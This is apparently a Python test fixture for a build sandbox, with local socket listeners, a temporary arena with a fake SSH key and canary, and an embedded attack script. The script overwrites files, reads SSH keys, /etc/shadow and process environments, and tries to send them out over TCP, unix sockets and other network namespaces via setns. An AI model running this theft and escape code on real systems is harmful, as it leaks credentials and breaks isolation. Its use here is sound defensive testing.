"""A hostile bundle's tools, shared by the sandbox and validate attack tests: the attack
script, fake secrets for it to steal, listeners that hear any connection it makes, and
an arena (work folder, canary, fake HOME) to run it in."""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

TOKEN = "ghp_FAKEtokenFAKEtokenFAKEtokenFAKE1234"
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-KEY-MATERIAL-0123456789\n-----END OPENSSH PRIVATE KEY-----\n"

# What a hostile build backend or entry point tries. It reports nothing the test
# trusts: the test checks the effects from outside.
ATTACK = r'''
import ctypes, glob, json, os, socket, sys
cfg = json.loads(sys.argv[1])

def attempt(fn):
    try:
        fn()
    except Exception:
        pass

def overwrite():
    with open(cfg["canary"], "w") as fh:
        fh.write("pwned")

attempt(overwrite)
attempt(lambda: os.unlink(cfg["canary"]))
def drop():
    with open(os.path.join(os.path.dirname(cfg["canary"]), "dropped.txt"), "w") as fh:
        fh.write("pwned")
attempt(drop)

loot = [json.dumps(dict(os.environ))]
for p in [os.path.expanduser("~/.ssh/id_rsa"), cfg["key"], "/etc/shadow", "/root/.ssh/id_rsa"]:
    def read(p=p):
        with open(p, errors="replace") as fh:
            loot.append(fh.read())
    attempt(read)
for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    def read(p=p):
        with open(p, "rb") as fh:
            loot.append(fh.read().decode(errors="replace"))
    attempt(read)
payload = ("exfil " + "\n".join(loot)).encode()

def tcp():
    s = socket.create_connection(("127.0.0.1", cfg["port"]), timeout=2)
    s.sendall(payload)
    s.close()

attempt(tcp)
libc = ctypes.CDLL(None, use_errno=True)
for ns in glob.glob("/proc/*/ns/net") + ["/proc/1/ns/net"]:
    def enter(ns=ns):
        fd = os.open(ns, os.O_RDONLY)
        libc.setns(fd, 0x40000000)
        tcp()
    attempt(enter)
for addr in [cfg["unix"], "\0" + cfg["abstract"]]:
    def unix(addr=addr):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(addr)
        s.sendall(payload)
        s.close()
    attempt(unix)
with open("loot.txt", "w") as fh:
    fh.write("\n".join(loot))
print("\n".join(loot))
print("attack done")
'''


class Listener:
    """A TCP listener on 127.0.0.1, a unix socket on disk and an abstract unix socket
    in the host's network namespace, each recording what it receives."""

    def __init__(self, folder: Path) -> None:
        self.heard: dict[str, list[bytes]] = {"tcp": [], "unix": [], "abstract": []}
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix_path = folder / "host.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(self.unix_path))
        os.chmod(self.unix_path, 0o777)
        self.abstract_name = f"reprokit-test-{os.getpid()}-{time.monotonic_ns()}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0" + self.abstract_name)
        self.socks = {"tcp": self.tcp, "unix": self.unix, "abstract": self.abstract}
        self.stop = False
        self.threads = []
        for kind, s in self.socks.items():
            s.listen(8)
            s.settimeout(0.2)
            t = threading.Thread(target=self._accept, args=(kind, s), daemon=True)
            t.start()
            self.threads.append(t)

    @property
    def received(self) -> list[bytes]:
        return [r for rs in self.heard.values() for r in rs]

    def _accept(self, kind: str, s: socket.socket) -> None:
        while not self.stop:
            try:
                conn, _ = s.accept()
            except (TimeoutError, OSError):
                continue
            conn.settimeout(2)
            chunks = [b"connected:"]
            with contextlib.suppress(OSError):
                while data := conn.recv(65536):
                    chunks.append(data)
            conn.close()
            self.heard[kind].append(b"".join(chunks))

    def close(self) -> None:
        time.sleep(0.3)
        self.stop = True
        for t in self.threads:
            t.join()
        for s in self.socks.values():
            s.close()


@contextlib.contextmanager
def arena(owner: int) -> Iterator[dict[str, Path]]:
    """A world-traversable folder holding a work folder (the only writable place), a
    canary beside it and a fake HOME with a fake SSH key."""
    base = Path(tempfile.mkdtemp(prefix="reprokit-attack-", dir="/tmp"))
    try:
        base.chmod(0o755)
        work, home = base / "work", base / "home"
        (home / ".ssh").mkdir(parents=True)
        work.mkdir()
        (home / ".ssh" / "id_rsa").write_text(KEY)
        (base / "canary.txt").write_text("canary\n")
        (work / "attack.py").write_text(ATTACK)
        for p in [base, *base.rglob("*")]:
            os.chown(p, owner, owner) if os.geteuid() == 0 else None
        (home / ".ssh" / "id_rsa").chmod(0o644)  # readable to the sandbox's user, were it visible
        (base / "canary.txt").chmod(0o666)  # writable by anyone, were it visible
        yield {"base": base, "work": work, "home": home}
    finally:
        shutil.rmtree(base, ignore_errors=True)
